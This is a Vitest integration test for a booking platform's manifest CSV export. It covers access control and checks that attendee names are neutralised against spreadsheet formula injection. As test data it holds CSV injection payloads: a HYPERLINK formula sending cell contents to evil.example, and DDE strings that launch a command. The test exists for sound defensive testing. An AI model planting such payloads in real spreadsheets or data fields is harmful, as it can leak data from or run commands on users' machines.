import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UserRole } from '../../server/src/modules/account/user.entity.js';
import { actor } from './admin-fixtures.js';
import { book, createSlot, ensureRate, fork, newCustomer, type SlotFixture } from './booking.fixtures.js';
import { issueKey } from './partner.fixtures.js';
import { startTestServer, type TestServer } from './support/test-server.js';
import { bookingCode } from './voucher.fixtures.js';

/** The departure's manifest as CSV: a download of the server's one CSV writer, for the manifest's readers only. */

let server: TestServer;
let slot: SlotFixture;
let customer: { id: number; token: string; email: string };
let admin: string;

beforeAll(async () => {
  server = await startTestServer();
  await ensureRate(server);
  slot = await createSlot(server, { seats: 100 });
  customer = await newCustomer(server);
  admin = (await actor(server, UserRole.Admin)).token;
});
afterAll(() => server.stop());

const csvPath = (timeId: number) => `/api/v1/activity_time/${timeId}/manifest.csv`;

async function download(path: string, token?: string): Promise<Response> {
  return fetch(`${server.url}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
}

/** RFC 4180 records (quoted cells, doubled quotes, CRLF), as a spreadsheet reads the file. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',') {
      record.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      records.push([...record, cell]);
      record = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return records;
}

/** Books one adult for the customer and places the order with `name` as the attendee (the wizard's form). */
async function bookingNamed(token: string, email: string, name: string): Promise<number> {
  const bookingId = await book(server, slot, token);
  const res = await server.http('POST', '/api/v1/booking/order', {
    token,
    body: { booking_ids: [bookingId], name, national_id: 'V12345678', email, phone: '04141234567' },
  });
  if (res.status !== 201) throw new Error(`order failed: ${res.status} ${JSON.stringify(res.body)}`);
  return bookingId;
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A3,"Ver")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
/** The order form trims names, so these two reach the row directly: the writer must not rely on the form. */
const BLANK_LED = ['\t=1+2', '\r=1+2'];

describe('manifest CSV', () => {
  it('the supplier downloads every attendee name inert: a would-be formula starts with an apostrophe', async () => {
    const ids = new Map<number, string>();
    for (const name of FORMULAS) ids.set(await bookingNamed(customer.token, customer.email, name), name);
    for (const name of BLANK_LED) {
      const id = await bookingNamed(customer.token, customer.email, 'Ana Pérez');
      await fork(server).execute('update bookings set attendee_name = ? where id = ?', [name, id]);
      ids.set(id, name);
    }

    const [arrived] = ids.keys();
    await fork(server).execute(`update bookings set checked_in_at = '2026-11-28T13:05:00Z' where id = ?`, [
      arrived,
    ]);

    const res = await download(csvPath(slot.timeId), slot.supplierToken);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="llegadas-\d{4}-\d\d-\d\d-0900\.csv"$/,
    );
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1));
    expect(header).toEqual(['Código', 'Nombre', 'Participantes', 'Pago', 'Llegada']);
    expect(rows).toHaveLength(ids.size);
    for (const [id, name] of ids) {
      const code = await bookingCode(server, id);
      const line = rows.find((r) => r[0] === code)!;
      // The arrival in Venezuelan time (UTC−4), as the supplier's clock read it.
      expect(line).toEqual([code, `'${name}`, '1', 'Por pagar', id === arrived ? '2026-11-28 09:05' : '']);
    }
    for (const [, name, participants] of rows) {
      expect(name).toMatch(/^'/);
      expect(participants).toBe('1');
    }
  });

  it('an admin reads it too; another supplier and a customer get 404, no session 401, a bad id 422', async () => {
    expect((await download(csvPath(slot.timeId), admin)).status).toBe(200);
    const other = await createSlot(server);
    for (const token of [other.supplierToken, customer.token]) {
      const res = await download(csvPath(slot.timeId), token);
      expect([res.status, ((await res.json()) as { code: string }).code]).toEqual([404, 'NOT_FOUND']);
    }
    expect((await download(csvPath(slot.timeId))).status).toBe(401);
    const bad = await download('/api/v1/activity_time/abc/manifest.csv', slot.supplierToken);
    expect([bad.status, ((await bad.json()) as { message: string }).message]).toEqual([
      422,
      'Identificador inválido.',
    ]);
  });

  it('a partner key with bookings:read gets only its own bookings; without the scope 403', async () => {
    const own = await createSlot(server);
    const partner = (await issueKey(server, admin, { scopes: ['bookings:read', 'bookings:write'] })).key;
    const catalogOnly = (await issueKey(server, admin, { scopes: ['catalog:read'] })).key;
    const mine = await book(server, own, partner);
    await server.http('POST', '/api/v1/booking/order', { token: partner, body: { booking_ids: [mine] } });
    const theirs = await book(server, own, customer.token);
    await server.http('POST', '/api/v1/booking/order', {
      token: customer.token,
      body: { booking_ids: [theirs] },
    });

    const res = await download(csvPath(own.timeId), partner);
    expect(res.status).toBe(200);
    const rows = parseCsv((await res.text()).replace(/^\uFEFF/, '')).slice(1);
    expect(rows.map((r) => r[0])).toEqual([await bookingCode(server, mine)]);
    const denied = await download(csvPath(own.timeId), catalogOnly);
    expect([denied.status, ((await denied.json()) as { message: string }).message]).toEqual([
      403,
      'La clave de API no tiene el permiso bookings:read.',
    ]);
  });
});
